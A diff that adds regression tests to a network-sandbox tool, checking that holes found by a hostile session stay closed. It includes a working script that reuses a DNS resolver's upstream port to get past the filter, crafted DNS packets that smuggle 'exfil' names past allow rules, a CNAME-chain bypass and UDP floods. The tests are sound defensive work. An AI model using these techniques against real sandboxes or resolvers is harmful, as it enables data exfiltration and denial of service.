@@ -273,3 +273,129 @@ def test_session_cannot_touch_the_filters_processes(user: User, scope: str, work
                         DEJIMA_SETTINGS=str(world.settings))
     assert parse_json_line(result.stdout) == {"signal_filter": "denied", "environ": "denied", "mem": "denied",
                                               "root": "denied"}
+
+
+# --- boundary holes a hostile session found (issue 9) -----------------------------------------------
+
+RIDE_THE_RESOLVERS_FLOW = r"""
+import json, socket, struct, sys, threading, time
+upstream = sys.argv[1]
+def query(name, qid):
+    qname = b"".join(bytes([len(p)]) + p for p in name.encode().split(b".")) + b"\0"
+    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + qname + struct.pack("!HH", 1, 1)
+remote = socket.inet_aton(upstream)[::-1].hex().upper() + ":0035"
+def ask_slow_name():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(6)
+    s.sendto(query("slow.dejima.test", 0x1111), ("127.0.0.1", 53)); s.recv(512)
+asker = threading.Thread(target=ask_slow_name); asker.start()
+ports, deadline = set(), time.monotonic() + 6
+while asker.is_alive() and time.monotonic() < deadline:
+    # The shared namespace's sockets: the resolver's upstream socket shows with its remote address.
+    for line in open("/proc/net/udp").read().splitlines()[1:]:
+        fields = line.split()
+        if fields[2] == remote:
+            ports.add(int(fields[1].split(":")[1], 16))
+asker.join()
+results = []
+for port in sorted(ports):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
+    try:
+        s.bind(("0.0.0.0", port))  # the resolver closed it; its conntrack entry lives on
+        s.sendto(query("tunnel.dejima.test", 0x2222), (upstream, 53)); s.recv(512)
+        results.append("answered")
+    except socket.timeout:
+        results.append("timeout")
+    except OSError as e:
+        results.append("blocked: " + (e.strerror or str(e)))
+print(json.dumps({"ports": sorted(ports), "results": results}))
+"""
+
+
+def test_session_cannot_ride_the_resolvers_upstream_flow(runtime: Runtime, user: User, scope: str,
+                                                         workspace: Path, world: World) -> None:
+    """Hole 1: a session that learns the resolver's upstream source port (from /proc/net/udp of the
+    shared namespace) sends its own query from that port, on the flow's live conntrack entry."""
+    result = run_dejima(user, scope, "--allow", "slow.dejima.test", str(workspace), "--", "python3", "-c",
+                        RIDE_THE_RESOLVERS_FLOW, world.dns, DEJIMA_SETTINGS=str(world.settings))
+    assert result.returncode == 0, result.stderr
+    attack = parse_json_line(result.stdout)
+    assert attack["ports"], "the attack never saw the resolver's upstream socket, so it proves nothing"
+    assert all(outcome != "answered" for outcome in attack["results"]), attack  # type: ignore[union-attr]
+    assert "tunnel.dejima.test" not in queries_seen(runtime, world)
+    assert "slow.dejima.test" in queries_seen(runtime, world)  # the control: the resolver's own query went
+    session = result.stderr.split("dejima violations ")[-1].split()[0]
+    listed = run_dejima(user, scope, "violations", session, "--json").stdout
+    records = [json.loads(line) for line in listed.splitlines()]
+    assert any(r["kind"] == "connection" and r["address"] == world.dns and r.get("port") == 53 for r in records)
+
+
+def raw_query(*questions: tuple[list[bytes], int]) -> dict[str, object]:
+    from dnslib import DNSHeader, DNSLabel, DNSQuestion, DNSRecord
+
+    record = DNSRecord(DNSHeader(id=0x5151, rd=1))
+    for labels_, qtype in questions:
+        record.add_question(DNSQuestion(DNSLabel(labels_), qtype))
+    return {"op": "rawdns", "packet": bytes(record.pack()).hex()}
+
+
+def test_resolver_checks_the_name_it_forwards(runtime: Runtime, user: User, scope: str, workspace: Path,
+                                              world: World) -> None:
+    """Hole 2: a label holding a dot prints like two labels; a second question was never checked."""
+    dotted, second, control = run_probe(
+        user, scope, workspace, world,
+        raw_query(([b"exfil-one.wild", b"dejima", b"test"], 1)),
+        raw_query(([b"web", b"dejima", b"test"], 1), ([b"exfil-two", b"dejima", b"test"], 1)),
+        raw_query(([b"a", b"wild", b"dejima", b"test"], 1)),
+        allow=("*.wild.dejima.test", "web.dejima.test"))
+    assert control["rcode"] == 0 and control["ancount"] == 1
+    assert dotted["rcode"] in (REFUSED, 1) and second["rcode"] in (REFUSED, 1), (dotted, second)  # 1: FORMERR
+    seen = queries_seen(runtime, world)
+    assert not any("exfil" in name for name in seen), seen
+
+
+def test_deny_beats_allow_inside_a_cname_chain(user: User, scope: str, workspace: Path, world: World) -> None:
+    """Hole 3: an allowed alias whose CNAME points at a denied name."""
+    answer, connect = run_probe(user, scope, workspace, world, dns("badalias.dejima.test"),
+                                tcp("badalias.dejima.test", 8080), allow=("badalias.dejima.test",))
+    assert answer["rcode"] == REFUSED
+    assert "a test says this host exfiltrates" in str(answer["text"])
+    assert connect["result"] == "blocked"
+
+
+def test_a_flood_of_blocked_packets_does_not_kill_the_filter(user: User, scope: str, workspace: Path,
+                                                            world: World) -> None:
+    """Hole 6: a burst of blocked UDP overflowed the nflog reader's socket and the filter died (137)."""
+    flood, after, connect = run_probe(
+        user, scope, workspace, world,
+        {"op": "udp_flood", "host": world.other, "port": 5353, "count": 400_000, "seconds": 4},
+        dns("web.dejima.test"), tcp("web.dejima.test", 8080), allow=("web.dejima.test",))
+    assert flood["packets"] > 10_000, flood  # a real burst, not a trickle
+    assert after["rcode"] == 0 and connect["result"] == "connected"
+
+
+def test_a_query_flood_and_garbage_do_not_kill_the_resolver(user: User, scope: str, workspace: Path,
+                                                           world: World) -> None:
+    from dnslib import DNSRecord
+
+    refused_name = bytes(DNSRecord.question("flood.other.test", "A").pack()).hex()
+    flood, junk, after = run_probe(
+        user, scope, workspace, world,
+        {"op": "udp_flood", "host": "127.0.0.1", "port": 53, "count": 30_000, "seconds": 4, "payload": refused_name},
+        {"op": "junk"}, dns("web.dejima.test"), allow=("web.dejima.test",))
+    assert flood["packets"] >= 5_000 and junk["result"] == "sent"
+    assert after["rcode"] == 0 and after["ancount"] == 1
+
+
+def test_a_filter_that_stops_mid_session_is_reported_plainly(runtime: Runtime, user: User, scope: str,
+                                                             workspace: Path, world: World) -> None:
+    """Hole 6: when the filter stops, the session dies with it (fail closed), and the user is told why
+    instead of seeing a bare 137."""
+    with spawn_dejima(user, scope, "-q", str(workspace), "--", "sh", "-c", "echo started; exec sleep 120",
+                      DEJIMA_SETTINGS=str(world.settings)) as proc:
+        wait_for_line(proc.stdout, "started")
+        (filter_id,) = containers_of(runtime, scope, role=labels.ROLE_FILTER)
+        runtime.kill(filter_id)
+        assert proc.wait(timeout=60) == 125
+        stderr = proc.stderr.read()  # type: ignore[union-attr]
+    assert "the filter stopped during the session" in stderr, stderr
+    assert "lost its network" in stderr
